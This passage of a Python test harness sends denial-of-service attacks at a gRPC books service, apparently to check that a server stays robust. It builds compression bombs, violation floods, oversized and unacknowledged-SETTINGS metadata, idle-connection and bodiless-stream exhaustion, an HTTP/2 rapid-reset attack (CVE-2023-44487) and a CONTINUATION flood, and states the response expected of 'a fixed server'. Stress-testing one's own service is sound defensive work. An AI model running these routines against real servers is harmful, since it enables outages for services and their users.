                    g[:len(g) // 2] + ch.encode() + g[len(g) // 2 + 1:]))
        mal.append(("non-alphabet %r appended" % ch, g + ch.encode()))
    for bad in (b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\x80abc", b"\xf8\x88\x80\x80\x80"):
        mal.append(("invalid UTF-8 %r" % bad, g[:8] + bad + g[8:]))
    for pad in ("=", "==", "===", "===="):
        mal.append(("padding %r" % pad, g + pad.encode()))
        mal.append(("standard base64 with padding %r" % pad,
                    g.replace(b"-", b"+").replace(b"_", b"/") + pad.encode()))
    for ws in (" ", "\t", "\n", "\r\n", "\u00a0", "\u3000"):
        mal.append(("whitespace %r before" % ws, ws.encode() + g))
        mal.append(("whitespace %r after" % ws, g + ws.encode()))
        mal.append(("whitespace %r inside" % ws, g[:10] + ws.encode() + g[10:]))
    mal.append(("genuine token, reversed", g[::-1]))
    mal.append(("genuine token, swapped case", g.swapcase()))
    mal.append(("genuine token, doubled", g + g))
    mal.append(("only '='", b"=" * 8))
    mal.append(("only '-'", b"-" * 44))
    mal.append(("only '_'", b"_" * 44))
    mal.append(("only 'A'", b"A" * 44))
    mal.append(("a standard base64 of a plausible cursor",
                base64.b64encode(b"\x01seed-0" + b"\0" * 16).rstrip(b"=")))
    mal.append(("a urlsafe base64 of a plausible cursor, no tag",
                base64.urlsafe_b64encode(b"\x01seed-0").rstrip(b"=")))
    mal.append(("version 2", base64.urlsafe_b64encode(b"\x02seed-0" + b"\0" * 16).rstrip(b"=")))
    mal.append(("cursor with NUL", base64.urlsafe_b64encode(b"\x01se\0d" + b"\0" * 16).rstrip(
        b"=")))
    mal.append(("128-byte cursor", base64.urlsafe_b64encode(b"\x01" + b"z" * 128 +
                                                            b"\0" * 16).rstrip(b"=")))
    mal.append(("129-byte cursor", base64.urlsafe_b64encode(b"\x01" + b"z" * 129 +
                                                            b"\0" * 16).rstrip(b"=")))
    mal.append(("64 KiB of 'A'", b"A" * 65536))
    mal.append(("1 MiB of 'A'", b"A" * MiB))
    for label, tok in mal:
        cases.append((label, "malformed", tok))
    if genuine:
        for i in range(len(g)):
            c = chr(g[i])
            repl = B64URL[(B64URL.index(c) + 1 + rng.randrange(len(B64URL) - 1)) % len(B64URL)] \
                if c in B64URL else "A"
            cases.append(("genuine token, char %d changed %s->%s" % (i, c, repl), "altered",
                          g[:i] + repl.encode() + g[i + 1:]))
        for cut in range(1, min(len(g), 12)):
            cases.append(("genuine token, last %d chars cut" % cut, "altered", g[:-cut]))
            cases.append(("genuine token, first %d chars cut" % cut, "altered", g[cut:]))
        for extra in ("A", "AA", "AAA", "AAAA", "-", "_"):
            cases.append(("genuine token + %r" % extra, "altered", g + extra.encode()))
    return cases


def list_request_bytes(token, page_size=1):
    out = b""
    if page_size:
        out += varint(1 << 3 | 0) + varint(page_size & 0xFFFFFFFFFFFFFFFF)
    if token:
        out += pb_bytes(2, token)
    return out


def attack_page_tokens(host, port, stop=None, max_len=420, seed=1, timeout=10.0,
                       max_seconds=60.0):
    """ListBooks with page_token of every length 0..max_len of random base64url characters, plus
    malformed tokens (non-alphabet bytes, padding, whitespace, invalid UTF-8, huge) and a genuine
    token with each character changed, cut or extended. Expected of a fixed server:
    INVALID_ARGUMENT for every non-empty token but the genuine one; OK for empty and genuine."""
    res = new_result("page_tokens")
    budget = Budget(max_seconds, stop)
    ch = channel(host, port, [("grpc.max_receive_message_length", 64 * MiB)])
    try:
        stub = harness.books_pb2_grpc.BooksServiceStub(ch)
        code, resp = call_code(stub.ListBooks, books_pb2.ListBooksRequest(page_size=1),
                               timeout=timeout)
        genuine = resp.next_page_token if code == "OK" else ""
        res["details"]["genuine_token"] = genuine
        if not genuine:
            res["notes"].append("no genuine token (fewer than 2 books?): altered cases skipped")
        raw = harness.raw_unary(ch, LIST_BOOKS)
        cases = page_token_cases(genuine, max_len=max_len, seed=seed)
        if genuine:
            cases.append(("genuine token", "genuine", genuine.encode()))
        per_cat = collections.defaultdict(collections.Counter)
        unexpected = []
        for label, cat, tok in cases:
            if budget.over():
                break
            body = list_request_bytes(tok)
            res["bytes_sent"] += len(body) + 5
            code, out = call_code(raw, body, timeout=timeout)
            res["statuses"][code] += 1
            per_cat[cat][code] += 1
            want = "OK" if cat in ("empty", "genuine") else "INVALID_ARGUMENT"
            if code != want:
                unexpected.append({"case": label, "category": cat, "token_len": len(tok),
                                   "code": code, "want": want,
                                   "message": (out.details() or "")[:200]
                                   if isinstance(out, grpc.RpcError) else ""})
        res["details"]["cases"] = len(cases)
        res["details"]["by_category"] = {k: dict(v) for k, v in per_cat.items()}
        res["details"]["unexpected"] = unexpected
    finally:
        ch.close()
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: violation floods.

def _unary_on_new_channel(host, port, method, body, timeout, max_metadata):
    opts = [("grpc.max_send_message_length", -1),
            ("grpc.max_receive_message_length", 64 * MiB)]
    if max_metadata:
        opts.append(("grpc.max_metadata_size", max_metadata))
    ch = channel(host, port, opts)
    try:
        t = time.monotonic()
        code, out = call_code(harness.raw_unary(ch, method), body, timeout=timeout)
        info = error_summary(out) if isinstance(out, grpc.RpcError) else {"code": code}
        info["elapsed_s"] = round(time.monotonic() - t, 3)
        return info
    finally:
        ch.close()


def attack_violation_flood(host, port, stop=None, authors=1_300_000, bad_fields=5000,
                           concurrency=48, alone=True, timeout=60.0, max_seconds=60.0,
                           max_metadata=None):
    """CreateBook with a book of `authors` empty authors (~2 bytes each, 2.6 MB for 1.3 M), one with
    `bad_fields` bad authors plus bad book_id/title/publisher, and one with exactly 100 bad authors
    (within the API's cap of 100, so every one is a problem to report; 71 of them are not even
    valid UTF-8 or hold a NUL); each alone (unless alone=False), then `concurrency` of the first
    two kinds at once, each on its own channel. details["min_problems"] are lower bounds on the
    problems any validator must find.

    max_metadata: the attacker's grpc.max_metadata_size (None: grpcio's default, what a normal
    client sees). Expected of a fixed server: INVALID_ARGUMENT, a BadRequest of at most 32
    violations, and a message saying how many problems were left out."""
    res = new_result("violation_flood")
    budget = Budget(max_seconds, stop)
    payloads = {
        "empty_authors": empty_authors_request(authors),
        "bad_fields": bad_fields_request(bad_fields),
        "bad_fields_100": bad_fields_request(100),
    }
    res["details"]["payload_bytes"] = {k: len(v) for k, v in payloads.items()}
    res["details"]["min_problems"] = {"bad_fields": bad_fields_min_problems(bad_fields),
                                      "bad_fields_100": bad_fields_min_problems(100)}
    results_alone = {}
    for label, body in payloads.items():
        if budget.over() or not alone:
            break
        info = _unary_on_new_channel(host, port, CREATE_BOOK, body,
                                     min(timeout, max(1.0, budget.left())), max_metadata)
        res["bytes_sent"] += len(body) + 5
        res["statuses"][info["code"]] += 1
        results_alone[label] = info
    res["details"]["alone"] = results_alone
    if max_metadata is None:
        # What the server really sent, seen by a client that accepts 64 MiB of metadata.
        seen = {}
        for label, info in results_alone.items():
            if info["code"] != "INVALID_ARGUMENT" and not budget.over():
                seen[label] = _unary_on_new_channel(host, port, CREATE_BOOK, payloads[label],
                                                    min(timeout, max(1.0, budget.left())),
                                                    64 * MiB)
                seen[label].pop("full_message", None)
        res["details"]["alone_big_metadata_client"] = seen
        for label, info in seen.items():
            res["notes"].append("%s: a default client got %s; the server had sent %s with %d "
                                "violations, %s bytes of details" % (
                                    label, results_alone[label]["code"], info["code"],
                                    info.get("violations", 0), info.get("details_bytes")))
    concurrent = {}
    for label in ("empty_authors", "bad_fields"):
        if budget.over() or concurrency <= 0:
            break
        body = payloads[label]
        outs = [None] * concurrency

        def run(i, body=body, outs=outs):
            outs[i] = _unary_on_new_channel(host, port, CREATE_BOOK, body,
                                            min(timeout, max(1.0, budget.left())), max_metadata)

        threads = [threading.Thread(target=run, args=(i,), daemon=True)
                   for i in range(concurrency)]
        t = time.monotonic()
        for th in threads:
            th.start()
        for th in threads:
            th.join(max(1.0, budget.left()) + 5)
        codes = collections.Counter((o or {"code": "CLIENT_TIMEOUT"})["code"] for o in outs)
        res["statuses"].update(codes)
        res["bytes_sent"] += (len(body) + 5) * concurrency
        concurrent[label] = {"codes": dict(codes), "elapsed_s": round(time.monotonic() - t, 3),
                             "max_violations": max((o or {}).get("violations", 0) for o in outs),
                             "all": outs}
    res["details"]["concurrent"] = concurrent
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: compression bomb.

@functools.lru_cache(maxsize=4)
def bomb_body(encoding, inflated=256 * MiB):
    """A CreateBookRequest whose book's display_name is `inflated` bytes of 'a', compressed with
    gzip (RFC 1952) or deflate (gRPC's "deflate" is the zlib format, RFC 1950), built with a
    streaming compressor so it never exists uncompressed here."""
    wbits = {"gzip": 31, "deflate": 15}[encoding]
    z = zlib.compressobj(9, zlib.DEFLATED, wbits)
    title_field = varint(2 << 3 | 2) + varint(inflated)
    book_len = len(title_field) + inflated
    head = varint(1 << 3 | 2) + varint(book_len) + title_field
    out = [z.compress(head)]
    chunk = b"a" * MiB
    left = inflated
    while left:
        n = min(left, len(chunk))
        out.append(z.compress(chunk[:n]))
        left -= n
    out.append(z.flush())
    return b"".join(out), len(head) + inflated


def attack_compression_bomb(host, port, stop=None, inflated=256 * MiB,
                            encodings=("gzip", "deflate"), parallel=1, timeout=30.0,
                            max_seconds=60.0):
    """For each encoding, `parallel` CreateBook calls over raw h2 (grpc-encoding gzip|deflate,
    compressed flag 1) whose message inflates to `inflated` bytes. Records grpc-status and
    grpc-message. Expected of a fixed server: RESOURCE_EXHAUSTED."""
    res = new_result("compression_bomb")
    budget = Budget(max_seconds, stop)
    lock = threading.Lock()
    per = {}
    for enc in encodings:
        if budget.over():
            break
        compressed, plain_len = bomb_body(enc, inflated)
        msg = struct.pack(">BI", 1, len(compressed)) + compressed
        outs = [None] * parallel

        def run(i, enc=enc, msg=msg, outs=outs):
            c = None
            try:
                c = H2Client(host, port, timeout=timeout)
                hs = h2_headers(c.authority, CREATE_BOOK, [("grpc-encoding", enc),
                                                           ("grpc-accept-encoding",
                                                            "identity,gzip,deflate")])
                chunks = (msg[i:i + 65536] for i in range(0, len(msg), 65536))
                outs[i] = c.request(hs, chunks, timeout=min(timeout, max(1.0, budget.left())),
                                    budget=budget)
            except OSError as e:
                outs[i] = {"outcome": "CONNECT_FAILED:%s" % e.__class__.__name__}
            finally:
                if c:
                    outs[i] = outs[i] or {"outcome": "CLIENT_ERROR"}
                    outs[i]["goaway"] = c.goaways
                    outs[i]["bytes_sent"] = c.bytes_sent
                    outs[i]["closed"] = c.closed
                    with lock:
                        absorb(res, c)
                    c.close()

        threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(parallel)]
        for th in threads:
            th.start()
        for th in threads:
            th.join(timeout + 10)
        for o in outs:
            res["statuses"][(o or {}).get("outcome", "CLIENT_TIMEOUT")] += 1
        for o in outs:
            if o:
                res["notes"].append("%s: %s %r after %.1f s" % (
                    enc, o.get("outcome"), (o.get("grpc_message") or "")[:80],
                    o.get("elapsed_s", 0)))
        per[enc] = {"compressed_bytes": len(compressed), "inflated_bytes": plain_len,
                    "ratio": round(plain_len / len(compressed), 1),
                    "results": [{k: v for k, v in (o or {}).items() if k != "goaway"}
                                for o in outs]}
    res["details"]["per_encoding"] = per
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: random bytes as every method's request.

RANDOM_BYTES_METHODS = (GET_BOOK, LIST_BOOKS, CREATE_BOOK, HEALTH_CHECK, REFLECTION_V1,
                        REFLECTION_V1ALPHA)


def random_payloads(seed, count, max_len=64 * 1024):
    """Seeded: half of them short (0..64 bytes, where protobuf parsers are most often fooled),
    half up to max_len; a few protobuf-looking ones (valid keys, lying lengths)."""
    rng = random.Random(seed)
    out = []
    for i in range(count):
        kind = i % 4
        if kind == 0:
            n = rng.randint(0, 64)
        elif kind == 3:
            # protobuf-looking: a key of field 1..4, wire type 2, then a lying length
            n = rng.randint(0, 64)
            key = bytes([(rng.randint(1, 4) << 3) | 2])
            out.append(key + varint(rng.randint(0, 1 << 31)) +
                       bytes(rng.getrandbits(8) for _ in range(n)))
            continue
        else:
            n = rng.randint(0, max_len)
        out.append(rng.getrandbits(8 * n).to_bytes(n, "little") if n else b"")
    return out


def attack_random_bytes(host, port, stop=None, per_method=100, max_len=64 * 1024, seed=20240601,
                        timeout=5.0, max_seconds=60.0, methods=RANDOM_BYTES_METHODS):
    """For every method, `per_method` seeded random payloads of random lengths as the request
    (reflection: as the bidi stream's one message). Records status codes; a fixed server never
    answers INTERNAL/UNKNOWN (nor goes away: UNAVAILABLE)."""
    res = new_result("random_bytes")
    budget = Budget(max_seconds, stop)
    ch = channel(host, port, [("grpc.max_receive_message_length", 64 * MiB)])
    per = {}
    bad = []
    try:
        for mi, method in enumerate(methods):
            counts = collections.Counter()
            payloads = random_payloads(seed + mi, per_method, max_len)
            bidi = "ServerReflection" in method
            callable_ = (ch.stream_stream(method, request_serializer=harness.identity,
                                          response_deserializer=harness.identity) if bidi
                         else harness.raw_unary(ch, method))
            for i, body in enumerate(payloads):
                if budget.over():
                    break
                res["bytes_sent"] += len(body) + 5
                if bidi:
                    try:
                        n = 0
                        for _ in callable_(iter([body]), timeout=timeout):
                            n += 1
                        code, msg = "OK", ""
                    except grpc.RpcError as e:
                        code, msg = e.code().name, e.details() or ""
                else:
                    code, out = call_code(callable_, body, timeout=timeout)
                    msg = out.details() if isinstance(out, grpc.RpcError) else ""
                counts[code] += 1
                res["statuses"][code] += 1
                if code in BAD_FOR_GARBAGE or code == "DEADLINE_EXCEEDED":
                    bad.append({"method": method, "index": i, "seed": seed + mi,
                                "len": len(body), "code": code, "message": (msg or "")[:200],
                                "head": body[:24].hex()})
            per[method] = dict(counts)
    finally:
        ch.close()
    res["details"]["per_method"] = per
    res["details"]["bad"] = bad
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: oversized metadata.

def header_frames(stream_id, block, frame_bytes=16384, end_stream=False):
    """One header block as HEADERS + CONTINUATION frames of at most frame_bytes each."""
    out = []
    pieces = [block[i:i + frame_bytes] for i in range(0, len(block), frame_bytes)] or [b""]
    for i, piece in enumerate(pieces):
        flags = FLAG_END_HEADERS if i == len(pieces) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, flags | (FLAG_END_STREAM if end_stream else 0), stream_id,
                             piece))
        else:
            out.append(frame(CONTINUATION, flags, stream_id, piece))
    return b"".join(out)


def _metadata_request(host, port, md, ack_settings, timeout, budget):
    """One GetBook with extra headers md over a raw connection; returns a dict."""
    try:
        c = RawConn(host, port, timeout=timeout, ack_settings=ack_settings)
    except OSError as e:
        return {"outcome": "CONNECT_FAILED:%s" % e.__class__.__name__}, None
    t = time.monotonic()
    c.start()
    # Wait for the server's SETTINGS; acknowledge them or not.
    c.pump_until(lambda: S_MAX_FRAME_SIZE in c.server_settings or
                 S_MAX_HEADER_LIST_SIZE in c.server_settings, 2.0)
    block = header_block(request_headers(GET_BOOK, c.authority, md))
    c.send(header_frames(1, block) +
           frame(DATA, FLAG_END_STREAM, 1, grpc_frame(get_book_bytes("books/seed-0"))))
    c.pump_until(lambda: c.outcome(1) is not None and c.streams[1].get("ended", True),
                 min(timeout, max(0.5, budget.left())))
    st = c.streams.get(1, {})
    out = {"outcome": c.outcome(1) or ("CLOSED:%s" % c.close_reason if c.closed else "TIMEOUT"),
           "grpc_message": st.get("grpc_message"), "all_statuses": st.get("all_statuses"),
           "block_bytes": len(block), "elapsed_s": round(time.monotonic() - t, 3),
           "closed": c.closed, "goaway": c.goaways[:1],
           "server_max_header_list_size": c.server_settings.get(S_MAX_HEADER_LIST_SIZE)}
    return out, c


def attack_oversized_metadata(host, port, stop=None, big_value=MiB, many=10000,
                              held_connections=4, held_streams=100, held_value=MiB, hold_s=3.0,
                              timeout=10.0, max_seconds=60.0, use_grpcio=True):
    """GetBook with one header value of `big_value` bytes, and with `many` small headers:
      * over HTTP/2 with hand-built frames (HEADERS + CONTINUATION of 16 KiB), once after
        acknowledging the server's SETTINGS (its SETTINGS_MAX_HEADER_LIST_SIZE then binds) and
        once never acknowledging them (gRPC core enforces only acknowledged settings);
      * over grpcio.
    Then "held": `held_connections` connections that never acknowledge SETTINGS, each opening
    `held_streams` streams whose HEADERS carry a `held_value`-byte header and no END_STREAM, held
    for hold_s seconds (server memory is what measure.py watches).
    A fixed server refuses oversized calls (RESOURCE_EXHAUSTED / INTERNAL / a reset) and stays
    up."""
    res = new_result("oversized_metadata")
    budget = Budget(max_seconds, stop)
    cases = {
        "one %d-byte value" % big_value: [("x-big", "a" * big_value)],
        "%d small headers" % many: [("x-h%d" % i, "v%d" % i) for i in range(many)],
    }
    per = {}
    for label, md in cases.items():
        for ack in (True, False):
            if budget.over():
                break
            key = "h2 %s, SETTINGS %s" % (label, "acked" if ack else "never acked")
            out, c = _metadata_request(host, port, md, ack, timeout, budget)
            if c is not None:
                absorb(res, c)
                c.close()
            res["statuses"]["h2 (SETTINGS %s): %s" % ("acked" if ack else "unacked",
                                                      out["outcome"])] += 1
            per[key] = out
        if use_grpcio and not budget.over():
            ch = channel(host, port)
            try:
                stub = harness.books_pb2_grpc.BooksServiceStub(ch)
                t = time.monotonic()
                code, err = call_code(stub.GetBook, books_pb2.GetBookRequest(name="books/seed-0"),
                                      metadata=md, timeout=min(timeout, max(1.0, budget.left())))
                per["grpcio " + label] = {
                    "outcome": code, "elapsed_s": round(time.monotonic() - t, 3),
                    "grpc_message": (err.details() or "")[:200]
                    if isinstance(err, grpc.RpcError) else None}
                res["statuses"]["grpcio: " + code] += 1
                res["bytes_sent"] += sum(len(k) + len(v) for k, v in md)
            finally:
                ch.close()
    # Held: many streams with big headers, SETTINGS never acknowledged, no END_STREAM.
    held = []
    outcomes = collections.Counter()
    try:
        for i in range(held_connections):
            if budget.over():
                break
            try:
                c = RawConn(host, port, timeout=timeout, ack_settings=False)
            except OSError as e:
                outcomes["connect failed %s" % e.__class__.__name__] += 1
                continue
            held.append(c)
            c.start()
            c.pump_until(lambda: S_MAX_CONCURRENT_STREAMS in c.server_settings, 2.0)
            k = min(held_streams, c.server_settings.get(S_MAX_CONCURRENT_STREAMS, held_streams))
            block = header_block(request_headers(GET_BOOK, c.authority,
                                                 [("x-held", "h" * held_value)]))
            c.opened = 0
            for j in range(k):
                if budget.over() or not c.send(header_frames(1 + 2 * j, block)):
                    break
                c.opened += 1
                c.pump(0.0)
        hold_end = time.monotonic() + hold_s
        while time.monotonic() < hold_end and not budget.over():
            for c in held:
                c.pump(0.0)
            time.sleep(0.05)
        for c in held:
            c.pump(0.0)
            for j in range(getattr(c, "opened", 0)):
                oc = c.outcome(1 + 2 * j) or ("CLOSED" if c.closed else "held open")
                outcomes[oc] += 1
    finally:
        for c in held:
            absorb(res, c)
            c.close()
    per["held: %d conns x %d streams x %d-byte header, SETTINGS never acked" % (
        held_connections, held_streams, held_value)] = dict(outcomes)
    for k, v in outcomes.items():
        res["statuses"]["held stream: " + k] += v
    res["details"]["cases"] = per
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: thousands of idle connections.

def raise_nofile():
    """Raises RLIMIT_NOFILE's soft limit to the hard one; returns the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY:
        hard = 1 << 20
    if soft != hard:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
            soft = hard
        except (ValueError, OSError):
            pass
    return soft


def attack_idle_connections(host, port, stop=None, count=3000, hold_s=10.0, timeout=3.0,
                            max_seconds=60.0, fd_reserve=256):
    """Opens `count` TCP connections (capped below RLIMIT_NOFILE, soft raised to hard) that each
    send the HTTP/2 preface and an empty SETTINGS, then nothing for hold_s seconds. Records how
    many connected, how many the server closed or sent GOAWAY on."""
    check_loopback(host)
    res = new_result("idle_connections")
    budget = Budget(max_seconds, stop)
    limit = raise_nofile()
    n = min(count, max(0, limit - fd_reserve))
    if n < count:
        res["notes"].append("count capped at %d by RLIMIT_NOFILE %d" % (n, limit))
    hello = PREFACE + settings_frame()
    socks = []
    fails = collections.Counter()
    sel = selectors.DefaultSelector()
    t_connect = time.monotonic()
    try:
        for i in range(n):
            if budget.over():
                break
            try:
                s = socket.create_connection((host, port), timeout=timeout)
                s.sendall(hello)
                res["bytes_sent"] += len(hello)
                s.setblocking(False)
                socks.append(s)
                sel.register(s, selectors.EVENT_READ, len(socks) - 1)
            except OSError as e:
                fails[e.__class__.__name__ + (":%s" % e.errno if e.errno else "")] += 1
                if len(fails) and sum(fails.values()) > 200:
                    res["notes"].append("stopped opening after 200 connect failures")
                    break
        res["details"]["connect_s"] = round(time.monotonic() - t_connect, 3)
        res["details"]["opened"] = len(socks)
        res["details"]["connect_failures"] = dict(fails)
        closed = set()
        got_bytes = collections.Counter()
        goaway_codes = collections.Counter()
        hold_end = time.monotonic() + hold_s
        while time.monotonic() < hold_end and not budget.over():
            for key, _ in sel.select(timeout=0.2):
                s = key.fileobj
                try:
                    data = s.recv(65536)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if not data:
                    closed.add(key.data)
                    sel.unregister(s)
                    continue
                got_bytes[key.data] += len(data)
                # A GOAWAY frame anywhere in what arrived (frame-aligned enough for a count).
                off = 0
                while off + 9 <= len(data):
                    ln = int.from_bytes(data[off:off + 3], "big")
                    if data[off + 3] == GOAWAY and off + 17 <= len(data):
                        goaway_codes[h2_error_name(int.from_bytes(data[off + 13:off + 17],
                                                                  "big"))] += 1
                    off += 9 + ln
        res["details"]["closed_by_server"] = len(closed)
        res["details"]["answered"] = len(got_bytes)
        res["details"]["goaway_codes"] = dict(goaway_codes)
        res["details"]["held_s"] = round(hold_s - max(0.0, hold_end - time.monotonic()), 3)
        for code, k in goaway_codes.items():
            res["goaway"].append({"code": code, "count": k})
        res["closed"] = bool(closed)
        res["statuses"]["connected"] = len(socks)
        if closed:
            res["statuses"]["closed by server"] = len(closed)
        for k, v in fails.items():
            res["statuses"]["connect failed " + k] = v
    finally:
        sel.close()
        for s in socks:
            try:
                s.close()
            except OSError:
                pass
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: bodiless streams.

def attack_bodiless_streams(host, port, stop=None, connections=100, streams=None, hold_s=10.0,
                            extra_streams=0, timeout=5.0, max_seconds=60.0):
    """`connections` connections, each opening streams up to the server's
    SETTINGS_MAX_CONCURRENT_STREAMS (or `streams`) plus `extra_streams` beyond it: CreateBook
    HEADERS without END_STREAM and never a DATA frame, no grpc-timeout. Held for hold_s seconds.
    Records what the server did with them (REFUSED_STREAM beyond the limit, resets, GOAWAY)."""
    res = new_result("bodiless_streams")
    budget = Budget(max_seconds, stop)
    conns = []
    mcs_seen = collections.Counter()
    try:
        for i in range(connections):
            if budget.over():
                break
            try:
                c = RawConn(host, port, timeout=timeout)
            except OSError as e:
                res["statuses"]["connect failed %s" % e.__class__.__name__] += 1
                continue
            c.start()
            c.pump_until(lambda: S_MAX_CONCURRENT_STREAMS in c.server_settings or
                         c.settings_acks > 0, 2.0)
            mcs = c.server_settings.get(S_MAX_CONCURRENT_STREAMS)
            mcs_seen[mcs] += 1
            k = streams or min(mcs or 100, 1000)
            block = header_block(request_headers(CREATE_BOOK, c.authority))
            data = b"".join(frame(HEADERS, FLAG_END_HEADERS, 1 + 2 * j, block)
                            for j in range(k + extra_streams))
            c.send(data)
            c.opened = k + extra_streams
            c.pump(0.0)
            conns.append(c)
        res["details"]["server_max_concurrent_streams"] = {str(k): v for k, v in
                                                           mcs_seen.items()}
        res["details"]["streams_opened"] = sum(getattr(c, "opened", 0) for c in conns)
        hold_end = time.monotonic() + hold_s
        while time.monotonic() < hold_end and not budget.over():
            for c in conns:
                c.pump(0.0)
            time.sleep(0.1)
        outcomes = collections.Counter()
        for c in conns:
            c.pump(0.0)
            for j in range(getattr(c, "opened", 0)):
                oc = c.outcome(1 + 2 * j)
                if oc is None:
                    oc = "GOAWAY (not processed)" if c.goaway_stream_dead(1 + 2 * j) else \
                        "still open" if not c.closed else "CLOSED"
                outcomes[oc] += 1
        res["statuses"].update(outcomes)
    finally:
        for c in conns:
            absorb(res, c)
            c.close()
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: HTTP/2 rapid reset (CVE-2023-44487).

def attack_rapid_reset(host, port, stop=None, connections=4, streams_per_conn=25000, batch=500,
                       with_body=True, timeout=5.0, max_seconds=40.0):
    """On each of `connections` connections: HEADERS (+ a GetBook DATA frame when with_body) then
    RST_STREAM(CANCEL), for `streams_per_conn` streams, as fast as the socket takes them.
    Records GOAWAY (code, debug, after how many streams), resets and responses."""
    res = new_result("rapid_reset")
    budget = Budget(max_seconds, stop)
    per = [None] * connections
    lock = threading.Lock()

    def run(ci):
        info = {"streams": 0}
        try:
            c = RawConn(host, port, timeout=timeout)
        except OSError as e:
            per[ci] = {"error": "connect: %s" % e.__class__.__name__}
            return
        try:
            c.start()
            c.pump_until(lambda: c.settings_acks > 0, 2.0)
            block = header_block(request_headers(GET_BOOK, c.authority))
            body = grpc_frame(get_book_bytes("books/seed-0"))
            sid = 1
            while info["streams"] < streams_per_conn and not budget.over() and not c.closed \
                    and not c.goaways:
                parts = []
                k = min(batch, streams_per_conn - info["streams"])
                for _ in range(k):
                    parts.append(frame(HEADERS, FLAG_END_HEADERS, sid, block))
                    if with_body:
                        parts.append(frame(DATA, 0, sid, body))
                    parts.append(rst_stream(sid, CANCEL))
                    sid += 2
                if not c.send(b"".join(parts)):
                    info["send_error"] = c.send_error
                    break
                info["streams"] += k
                c.pump(0.0)
                if c.goaways:
                    info["goaway_after_streams"] = info["streams"]
            c.pump_until(lambda: False, 1.0)   # what the server says afterwards
            if c.goaways and "goaway_after_streams" not in info:
                info["goaway_after_streams"] = info["streams"]
            info["responses"] = dict(collections.Counter(
                c.outcome(s) for s in c.streams if s and c.outcome(s)))
            info["closed"] = c.closed
            per[ci] = info
        finally:
            with lock:
                absorb(res, c)
            c.close()

    threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(connections)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(max_seconds + 15)
    total = sum((p or {}).get("streams", 0) for p in per)
    res["details"]["per_connection"] = per
    res["details"]["streams_total"] = total
    el = budget.elapsed()
    res["details"]["streams_per_s"] = round(total / el) if el > 0 else None
    res["statuses"]["streams sent+reset"] = total
    stalled = sum(1 for p in per if (p or {}).get("send_error", "").startswith("send timed out"))
    if stalled:
        res["notes"].append("the server stopped reading %d of %d connections (5 s send timeout)"
                            % (stalled, connections))
    res["notes"].append("%s streams/s" % res["details"]["streams_per_s"])
    for p in per:
        for k, v in ((p or {}).get("responses") or {}).items():
            res["statuses"]["answered " + k] += v
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: CONTINUATION flood.

def _continuation_one(host, port, variant, total_bytes, frame_bytes, timeout, vbudget, hold_s):
    """One connection of the CONTINUATION flood; returns (info, outcome, RawConn or None)."""
    try:
        c = RawConn(host, port, timeout=timeout)
    except OSError as e:
        return {"error": "connect: %s" % e.__class__.__name__}, "CONNECT_FAILED", None
    info = {}
    c.start()
    c.pump_until(lambda: c.settings_acks > 0, 2.0)
    fmax = min(frame_bytes, c.server_settings.get(S_MAX_FRAME_SIZE, 16384))
    first = header_block(request_headers(GET_BOOK, c.authority))
    counter = [0]
    if variant == "unterminated":
        # A literal header field (without indexing, new name) whose value length is declared
        # larger than the whole flood, so it never ends.
        first += b"\x00" + hpack_string(b"x-flood") + hpack_int(total_bytes * 4, 7)
        filler = b"a" * fmax

        def fill():
            return filler
    else:
        def fill():
            out = bytearray()
            while True:
                h = hpack_literal("x-c%d" % counter[0], "v")
                if len(out) + len(h) > fmax:
                    return bytes(out)
                out += h
                counter[0] += 1
    ok = c.send(frame(HEADERS, 0, 1, first))
    sent_frames = 0
    t0 = time.monotonic()
    while ok and c.bytes_sent < total_bytes and not vbudget.over():
        ok = c.send(b"".join(frame(CONTINUATION, 0, 1, fill()) for _ in range(16)))
        if ok:
            sent_frames += 16
        if sent_frames % 256 == 0:
            c.pump(0.0)
            if c.goaways or c.streams.get(1, {}).get("rst"):
                break
    info["continuation_frames"] = sent_frames
    info["send_s"] = round(time.monotonic() - t0, 3)
    info["bytes_sent"] = c.bytes_sent
    info["send_error"] = c.send_error
    if vbudget.cut:
        info["cut"] = vbudget.cut
    # Keep the unfinished header block open (the server may still be digesting what the kernel
    # buffered) until the server ends it or hold_s passes.
    c.pump_until(lambda: bool(c.goaways) or c.closed, max(0.0, min(hold_s, vbudget.left())))
    info["held_until_s"] = round(time.monotonic() - t0, 3)
    info["goaway"] = c.goaways[:2]
    info["rst"] = dict(c.rst)
    info["closed"] = c.closed
    info["close_reason"] = c.close_reason
    info["stream_1"] = c.outcome(1)
    if variant == "many_headers":
        info["headers_sent"] = counter[0]
    oc = ("GOAWAY:%s" % c.goaways[0]["code"]) if c.goaways else \
        ("CLOSED:%s" % c.close_reason) if c.closed else \
        (c.outcome(1) or ("STALLED (%s)" % c.send_error if c.send_error else
                          "still reading at the time bound" if vbudget.cut else
                          "accepted all %d MiB" % (c.bytes_sent // MiB)))
    return info, oc, c


def attack_continuation_flood(host, port, stop=None, total_bytes=40 * MiB, frame_bytes=16384,
                              variants=("unterminated", "many_headers"), connections=1,
                              hold_s=5.0, timeout=5.0, max_seconds=40.0):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames (never END_HEADERS) until
    total_bytes were sent on the connection or the server closed it: "unterminated" carries one
    literal header whose declared value length is longer than the whole flood; "many_headers"
    carries complete small headers (x-cNNNNN: v). Each variant runs on `connections` connections
    at once (total_bytes each), the variants one after the other, each with an equal share of the
    time; after its last frame a connection stays open (the header block unfinished) for hold_s
    seconds or until the server ends it. Records how far the server let each go and how it ended
    it."""
    res = new_result("continuation_flood")
